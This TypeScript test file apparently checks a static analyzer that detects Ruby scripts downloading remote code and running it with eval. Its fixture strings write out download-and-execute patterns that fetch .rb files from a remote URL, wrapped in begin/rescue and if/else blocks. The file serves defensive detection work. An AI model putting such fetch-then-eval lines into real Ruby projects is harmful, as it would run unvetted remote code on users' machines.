import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Ruby value blocks and RubyGems' fetcher (src/analysis/code/scripting/ruby-value-blocks.ts, ruby.ts). */
describe('Ruby values assigned from a block', () => {
  const downloadRun = async (src: string) => {
    const f = await factsOf('scripting', src);
    return ofKind(f, 'execute').filter((b) => b.code.taints.includes('download')).length > 0;
  };

  it('a fetch in a begin/rescue block is the value the eval after it runs', async () => {
    const src =
      'gem "rails"\nrequire "rubygems/remote_fetcher"\ncode = begin\n  Gem::RemoteFetcher.fetcher.fetch_path("https://groups.tooling-hub.dev/a.rb")\nrescue StandardError\n  File.read("a.rb")\nend\ninstance_eval(code)\n';
    expect(await downloadRun(src)).toBe(true);
  });

  it('an if/else whose one branch downloads', async () => {
    const src =
      'gem "rails"\nx = if ENV["CI"]\n  ""\nelse\n  Net::HTTP.get(URI("https://groups.tooling-hub.dev/b.rb"))\nend\neval(x)\n';
    expect(await downloadRun(src)).toBe(true);
  });

  it('a block of local reads, and a download assigned after the block closed, are not what eval runs', async () => {
    const local =
      'gem "rails"\nx = begin\n  File.read("shared.rb")\nrescue Errno::ENOENT\n  ""\nend\ninstance_eval(x)\n';
    expect(await downloadRun(local)).toBe(false);
    const after =
      'gem "rails"\nx = begin\n  File.read("shared.rb")\nend\ny = Net::HTTP.get(URI("https://groups.tooling-hub.dev/c.rb"))\neval(x)\n';
    expect(await downloadRun(after)).toBe(false);
  });
});
